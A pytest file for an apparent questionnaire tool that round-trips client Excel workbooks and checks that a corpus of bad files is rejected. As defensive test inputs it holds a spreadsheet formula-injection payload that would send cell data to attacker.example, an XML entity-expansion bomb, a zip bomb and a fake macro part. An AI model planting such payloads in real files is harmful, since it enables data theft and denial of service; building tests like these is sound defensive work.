"""The Excel round trip: export, fill in as a client would, import; and a corpus of bad workbooks."""

from __future__ import annotations

import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from dsm_assess.capture import import_file
from dsm_assess.engagement import engagement_dir
from dsm_assess.store import open_store
from dsm_assess.workbook import FIRST_ROW, META, export_workbook, ids_checksum

from .conftest import PAT, SAM


@pytest.fixture
def sam_book(fw, acme, root, tmp_path) -> Path:
    return export_workbook(fw, acme, acme.respondent(SAM), tmp_path / "out")


def fill(path: Path, cells: dict[tuple[str, str], object], out: Path | None = None) -> Path:
    """Type values into cells as a client would, e.g. {("PR.INC", "E4"): "F - Fully achieved"}."""
    wb = openpyxl.load_workbook(path)
    for (sheet, ref), value in cells.items():
        wb[sheet][ref] = value
    out = out or path.with_name(path.stem + "-filled.xlsx")
    wb.save(out)
    return out


def do_import(fw, eng, root, path):
    with open_store(engagement_dir(eng.slug, root), eng.slug) as store:
        return import_file(path, fw, eng, store, "workbook", root)


def current(root, slug="acme"):
    with open_store(engagement_dir(slug, root), slug) as store:
        return store.current_answers()


def test_workbook_layout(sam_book, fw, acme):
    wb = openpyxl.load_workbook(sam_book)
    assert wb.sheetnames == ["Instructions", "PR.INC", "PR.SDK", "PR.SRM", META]
    assert wb[META].sheet_state == "veryHidden"
    ws = wb["PR.INC"]
    ids = [ws.cell(r, 1).value for r in range(FIRST_ROW, ws.max_row + 1)]
    assert ids == [c for c in acme.criteria_for(fw, acme.respondent(SAM)) if c.startswith("PR.INC.")]
    assert ws.freeze_panes == "E4"
    assert ws.protection.sheet is True
    assert ws["A4"].protection.locked is True and ws["E4"].protection.locked is False
    assert ws["H4"].protection.locked is False
    rating, confidence = [dv for dv in ws.data_validations.dataValidation if dv.type == "list"]
    assert "F - Fully achieved" in rating.formula1 and "E4:E7" in str(rating.sqref)
    assert confidence.formula1 == '"1,2,3,4,5"' and "G4:G7" in str(confidence.sqref)
    assert wb.security.lockStructure
    instructions = " ".join(str(c.value) for row in wb["Instructions"].iter_rows() for c in row if c.value)
    assert "Acme Ltd" in instructions and "Sam Desk" in instructions and "N/A reason" in instructions


def test_round_trip_stores_what_was_filled(fw, acme, root, sam_book):
    filled = fill(sam_book, {
        ("PR.INC", "E4"): "F - Fully achieved", ("PR.INC", "G4"): 5, ("PR.INC", "H4"): "Tool screenshots",
        ("PR.INC", "E5"): "P - Partially achieved", ("PR.INC", "I5"): "Only for P1",
        ("PR.SDK", "E6"): "NA - Not applicable", ("PR.SDK", "F6"): "No desk: users call engineers",
        ("PR.SRM", "E7"): "DK - Don't know",
    })
    outcome = do_import(fw, acme, root, filled)
    assert outcome.outcome == "stored" and outcome.rows == 4 and outcome.notes == []
    got = current(root).set_index("criterion_id")
    assert got.loc["PR.INC.L2.01", ["rating", "confidence", "evidence"]].tolist() == ["F", 5, "Tool screenshots"]
    assert got.loc["PR.INC.L3.01", ["rating", "comment"]].tolist() == ["P", "Only for P1"]
    assert got.loc["PR.SDK.L4.01", ["rating", "na_reason"]].tolist() == ["NA", "No desk: users call engineers"]
    assert got.loc["PR.SRM.L5.01", "rating"] == "DK"
    assert set(got["respondent"]) == {SAM}
    with open_store(root / "acme") as store:
        history = store.history()
    assert set(history["bank_version"]) == {fw.bank_version} and set(history["source"]) == {"workbook"}


def test_obvious_variants_are_accepted_and_reported(fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): " Fully achieved ", ("PR.INC", "E5"): "l",
                             ("PR.INC", "E6"): "n/a", ("PR.INC", "F6"): "not ours", ("PR.INC", "E7"): "F"})
    outcome = do_import(fw, acme, root, filled)
    assert outcome.outcome == "stored"
    assert "sheet PR.INC, cell E4: ' Fully achieved ' read as F" in outcome.notes
    assert "sheet PR.INC, cell E5: 'l' read as L" in outcome.notes
    assert "sheet PR.INC, cell E6: 'n/a' read as NA" in outcome.notes
    assert len(outcome.notes) == 3  # "F" is exactly a code: nothing to say
    assert current(root).set_index("criterion_id")["rating"].to_dict() == {
        "PR.INC.L2.01": "F", "PR.INC.L3.01": "L", "PR.INC.L4.01": "NA", "PR.INC.L5.01": "F"}


def test_reimport_changes_nothing(fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): "F"})
    assert do_import(fw, acme, root, filled).outcome == "stored"
    copy = shutil.copy(filled, filled.with_name("renamed.xlsx"))
    again = do_import(fw, acme, root, Path(copy))
    assert again.outcome == "unchanged" and "nothing changed" in again.describe()
    with open_store(engagement_dir("acme", root)) as store:
        assert store.count("answers") == 1
        assert store.imports()["outcome"].tolist() == ["stored"]
    assert len(list((engagement_dir("acme", root) / "inbox").iterdir())) == 1


def test_received_file_kept_unchanged_in_inbox(fw, acme, root, sam_book):
    filled = fill(sam_book, {("PR.INC", "E4"): "F"})
    do_import(fw, acme, root, filled)
    [kept] = (engagement_dir("acme", root) / "inbox").iterdir()
    assert kept.read_bytes() == filled.read_bytes() and kept.name.endswith("-filled.xlsx")


def test_newer_file_supersedes_and_history_is_kept(fw, acme, root, sam_book):
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "E5"): "L"}))
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "P"}, sam_book.with_name("second.xlsx")))
    got = current(root).set_index("criterion_id")["rating"].to_dict()
    assert got == {"PR.INC.L2.01": "P", "PR.INC.L3.01": "L"}  # a blank cell does not erase an answer
    with open_store(engagement_dir("acme", root)) as store:
        assert store.history("PR.INC.L2.01")["rating"].tolist() == ["F", "P"]


def test_formula_like_text_is_stored_as_text_and_written_back_as_text(fw, acme, root, sam_book, tmp_path):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "H4"): evil,
                                              ("PR.INC", "E5"): "L", ("PR.INC", "I5"): "@SUM(1+1)"}))
    got = current(root).set_index("criterion_id")
    assert got.loc["PR.INC.L2.01", "evidence"] == evil and got.loc["PR.INC.L3.01", "comment"] == "@SUM(1+1)"
    from dsm_assess.answers import Answer

    prefill = {"PR.INC.L2.01": Answer(SAM, "PR.INC.L2.01", "F", evidence=evil)}
    again = export_workbook(fw, acme, acme.respondent(SAM), tmp_path / "again", prefill)
    cell = openpyxl.load_workbook(again)["PR.INC"]["H4"]
    assert cell.value == evil and cell.data_type == "s"
    with zipfile.ZipFile(again) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) for n in sheets)


def test_prefill_from_cli(cli, fw, acme, root, sam_book, tmp_path):
    do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "L", ("PR.INC", "G4"): 3}))
    result = cli("questionnaire", "export", "acme", "--respondent", SAM, "--prefill", "--root", root,
                 "--out-dir", tmp_path / "re")
    assert result.exit_code == 0
    ws = openpyxl.load_workbook(result.stdout.strip())["PR.INC"]
    assert (ws["E4"].value, ws["G4"].value, ws["E5"].value) == ("L - Largely achieved", 3, None)


def test_export_writes_one_workbook_per_respondent_to_outbox(cli, acme, root):
    result = cli("questionnaire", "export", "acme", "--root", root)
    assert result.exit_code == 0
    paths = result.stdout.split()
    assert len(paths) == 2 and all(Path(p).parent == engagement_dir("acme", root) / "outbox" for p in paths)
    assert all(Path(p).exists() for p in paths)


# ---- the corpus of bad workbooks ---------------------------------------------------------------

def _other_engagement_book(fw, acme, root, sam_book, tmp_path):
    from dsm_assess.engagement import add_respondent, load_engagement, new_engagement

    new_engagement(fw, "other", "Other plc", "quick-scan", root=root)
    add_respondent(fw, "other", "Sam Desk", SAM, "lead", ["PR.INC"], root)
    return export_workbook(fw, load_engagement("other", root, fw), load_engagement("other", root, fw).respondent(SAM),
                           tmp_path / "other")


def _stranger_book(fw, acme, root, sam_book, tmp_path):
    from dsm_assess.engagement import add_respondent, load_engagement, new_engagement

    elsewhere = tmp_path / "elsewhere"
    new_engagement(fw, "acme", "Acme Ltd", "quick-scan", root=elsewhere)
    add_respondent(fw, "acme", "Eve", "eve@acme.example.com", "lead", ["PR.INC"], elsewhere)
    eng = load_engagement("acme", elsewhere, fw)
    return export_workbook(fw, eng, eng.respondent("eve@acme.example.com"), tmp_path / "eve")


def _edit(fn):
    """A case that changes the exported workbook with openpyxl, as a careless client might."""
    def make(fw, acme, root, sam_book, tmp_path):
        wb = openpyxl.load_workbook(sam_book)
        fn(wb)
        out = tmp_path / "bad.xlsx"
        wb.save(out)
        return out
    return make


def _raw(data: bytes, name="bad.xlsx"):
    def make(fw, acme, root, sam_book, tmp_path):
        out = tmp_path / name
        out.write_bytes(data)
        return out
    return make


def _zip(parts: dict[str, bytes], name="bad.xlsx"):
    def make(fw, acme, root, sam_book, tmp_path):
        out = tmp_path / name
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
            for n, data in parts.items():
                z.writestr(n, data)
        return out
    return make


def _renamed_copy(name):
    def make(fw, acme, root, sam_book, tmp_path):
        return Path(shutil.copy(fill(sam_book, {("PR.INC", "E4"): "F"}), tmp_path / name))
    return make


def _truncated(fw, acme, root, sam_book, tmp_path):
    data = fill(sam_book, {("PR.INC", "E4"): "F"}).read_bytes()
    out = tmp_path / "bad.xlsx"
    out.write_bytes(data[: len(data) // 2])
    return out


def _oversized(fw, acme, root, sam_book, tmp_path):
    out = tmp_path / "huge.xlsx"
    with out.open("wb") as f:
        f.write(b"PK\x03\x04")
        f.truncate(21 * 1024 * 1024)
    return out


def _entity_bomb(fw, acme, root, sam_book, tmp_path):
    bomb = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
            b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
            b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
            b'<row r="1"><c r="A1" t="inlineStr"><is><t>&lol3;</t></is></c></row></sheetData></worksheet>')
    out = tmp_path / "bad.xlsx"
    with zipfile.ZipFile(sam_book) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            dst.writestr(item, bomb if item.filename == "xl/worksheets/sheet2.xml" else data)
    return out


def _forged_bank_version(wb):
    ws = wb[META]
    rows = {r[0].value: r for r in ws.iter_rows()}
    rows["bank_version"][1].value = "0.9.0"
    sheets = {r[1].value: r[2].value.split(",") for r in ws.iter_rows() if r[0].value == "sheet"}
    rows["checksum"][1].value = ids_checksum("acme", SAM, "0.9.0", sheets)


def _set(sheet, ref, value):
    return _edit(lambda wb: wb[sheet].__setitem__(ref, value))


def _meta_value(key, value):
    def change(wb):
        for row in wb[META].iter_rows():
            if row[0].value == key:
                row[1].value = value
    return _edit(change)


BAD = {
    "another engagement": (_other_engagement_book, "belongs to engagement 'other', not 'acme'"),
    "unknown respondent": (_stranger_book, "respondent 'eve@acme.example.com' is not part of engagement 'acme'"),
    "edited id": (_set("PR.INC", "A5", "PR.INC.L3.09"), "sheet PR.INC, cell A5: id 'PR.INC.L3.09' is not one"),
    "blanked id": (_set("PR.SDK", "A4", None), "sheet PR.SDK: criterion PR.SDK.L2.01 is missing"),
    "deleted row": (_edit(lambda wb: wb["PR.INC"].delete_rows(5)), "sheet PR.INC: criterion PR.INC.L3.01 is missing"),
    "duplicated id": (_set("PR.INC", "A6", "PR.INC.L2.01"), "sheet PR.INC, cell A6: id PR.INC.L2.01 appears twice"),
    "unknown rating": (_set("PR.INC", "E4", "maybe"), "sheet PR.INC, cell E4: rating 'maybe' is not one of"),
    "numeric rating": (_set("PR.SRM", "E5", 3), "sheet PR.SRM, cell E5: rating '3' is not one of"),
    "N/A without reason": (_set("PR.INC", "E4", "NA - Not applicable"), "sheet PR.INC, cell F4: PR.INC.L2.01 is "
                                                                       "rated N/A but has no reason"),
    "confidence word": (_set("PR.INC", "G4", "high"), "sheet PR.INC, cell G4: confidence must be a whole number"),
    "confidence 7": (_set("PR.INC", "G5", 7), "sheet PR.INC, cell G5: confidence must be a whole number"),
    "confidence 2.5": (_set("PR.INC", "G6", 2.5), "sheet PR.INC, cell G6: confidence must be a whole number"),
    "huge evidence": (_set("PR.INC", "H4", "x" * 10_001),
                      "sheet PR.INC, cell H4: evidence is 10,001 characters; at most 10,000"),
    "sheet renamed": (_edit(lambda wb: setattr(wb["PR.SDK"], "title", "Service desk")),
                      "sheet PR.SDK: sheet is missing (renamed or deleted?)"),
    "sheet deleted": (_edit(lambda wb: wb.remove(wb["PR.SRM"])), "sheet PR.SRM: sheet is missing"),
    "columns moved": (_edit(lambda wb: wb["PR.INC"].insert_cols(2)), "sheet PR.INC, row 3: the header row was changed"),
    "meta deleted": (_edit(lambda wb: wb.remove(wb[META])), "hidden sheet '_meta' is missing"),
    "meta tampered": (_meta_value("respondent", PAT), "sheet _meta: the hidden identification sheet was altered"),
    "old bank version": (_edit(_forged_bank_version), "made with question bank 0.9.0"),
    "not from this kit": (_edit(lambda wb: [wb.remove(wb[n]) for n in wb.sheetnames[1:]]), "'_meta' is missing"),
    "macro-enabled name": (_renamed_copy("answers.xlsm"), "macro-enabled workbooks (.xlsm) are not accepted"),
    "old xls name": (_renamed_copy("answers.xls"), "(.xls) is not accepted"),
    "csv renamed": (_raw(b"id,rating\nPR.INC.L2.01,F\n"), "not a zip package (a CSV or other file renamed?)"),
    "empty file": (_raw(b""), "not a zip package"),
    "ole2 renamed": (_raw(b"\xd0\xcf\x11\xe0" + b"\0" * 600), "an old .xls workbook renamed"),
    "truncated zip": (_truncated, "corrupt workbook"),
    "oversized": (_oversized, "file is 22.0 MB"),
    "zip bomb": (_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                      "xl/worksheets/sheet1.xml": b"\0" * (60 * 2**20)}), "zip-bomb-like"),
    "macros inside": (_zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>",
                           "xl/vbaProject.bin": b"\1" * 100}), "the workbook contains macros"),
    "no workbook inside": (_zip({"hello.txt": b"hello"}), "the zip package has no workbook inside"),
    "xml entity bomb": (_entity_bomb, "cannot be read as an Excel workbook"),
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_bad_workbook_is_rejected_with_its_location(case, fw, acme, root, sam_book, tmp_path):
    good = do_import(fw, acme, root, fill(sam_book, {("PR.INC", "E4"): "F", ("PR.INC", "G4"): 4}))
    assert good.outcome == "stored"
    before = current(root)
    make, expected = BAD[case]
    outcome = do_import(fw, acme, root, make(fw, acme, root, sam_book, tmp_path))
    assert outcome.outcome == "rejected"
    messages = [str(p) for p in outcome.problems]
    assert any(expected in m for m in messages), messages
    after = current(root)
    assert after.equals(before)
    inbox = engagement_dir("acme", root) / "inbox"
    assert len(list(inbox.iterdir())) == 1  # only the good file was kept


def test_every_problem_of_a_file_is_reported_together(fw, acme, root, sam_book):
    bad = fill(sam_book, {("PR.INC", "E4"): "maybe", ("PR.INC", "G5"): "high", ("PR.SDK", "E4"): "NA",
                          ("PR.SRM", "A6"): "X.1", ("PR.INC", "E6"): "F"})
    outcome = do_import(fw, acme, root, bad)
    where = sorted(p.where for p in outcome.problems)
    assert where == ["sheet PR.INC, cell E4", "sheet PR.INC, cell G5", "sheet PR.SDK, cell F4",
                     "sheet PR.SRM", "sheet PR.SRM, cell A6"]
    assert current(root).empty  # the good F in E6 was not stored either: all or nothing


def test_cli_import_rejection_exits_3_without_traceback(cli, fw, acme, root, sam_book):
    bad = fill(sam_book, {("PR.INC", "E4"): "maybe"})
    good = fill(export_workbook(fw, acme, acme.respondent(PAT), sam_book.parent), {("PR.ARC", "E4"): "L"},
                sam_book.parent / "pat.xlsx")
    result = cli("questionnaire", "import", "acme", bad, good, "--root", root)
    assert result.exit_code == 3
    assert "cell E4: rating 'maybe'" in result.stderr and "Traceback" not in result.output
    assert "pat.xlsx: stored 1 answers" in result.stdout
    assert "1 of 2 file(s) rejected" in result.stderr
    with open_store(engagement_dir("acme", root)) as store:
        assert store.imports()["outcome"].tolist() == ["rejected", "stored"]


def test_openpyxl_parses_with_defusedxml():
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML is True


CALC = shutil.which("soffice") and any(Path(d, "libsclo.so").exists() for d in (
    "/usr/lib/libreoffice/program", "/opt/libreoffice/program"))


@pytest.mark.skipif(not CALC, reason="LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
def test_a_workbook_saved_by_a_real_spreadsheet_application_still_imports(fw, acme, root, sam_book, tmp_path):
    import subprocess

    out = tmp_path / "resaved"
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo-profile",
                    "--convert-to", "xlsx", "--outdir", str(out), str(sam_book)],
                   check=True, capture_output=True, timeout=180)
    resaved = out / sam_book.name
    wb = openpyxl.load_workbook(resaved)
    assert wb[META].sheet_state in ("hidden", "veryHidden") and wb["PR.INC"].protection.sheet
    filled = fill(resaved, {("PR.INC", "E4"): "L - Largely achieved", ("PR.SDK", "E5"): "P"})
    outcome = do_import(fw, acme, root, filled)
    assert outcome.outcome == "stored" and outcome.rows == 2, outcome.problems
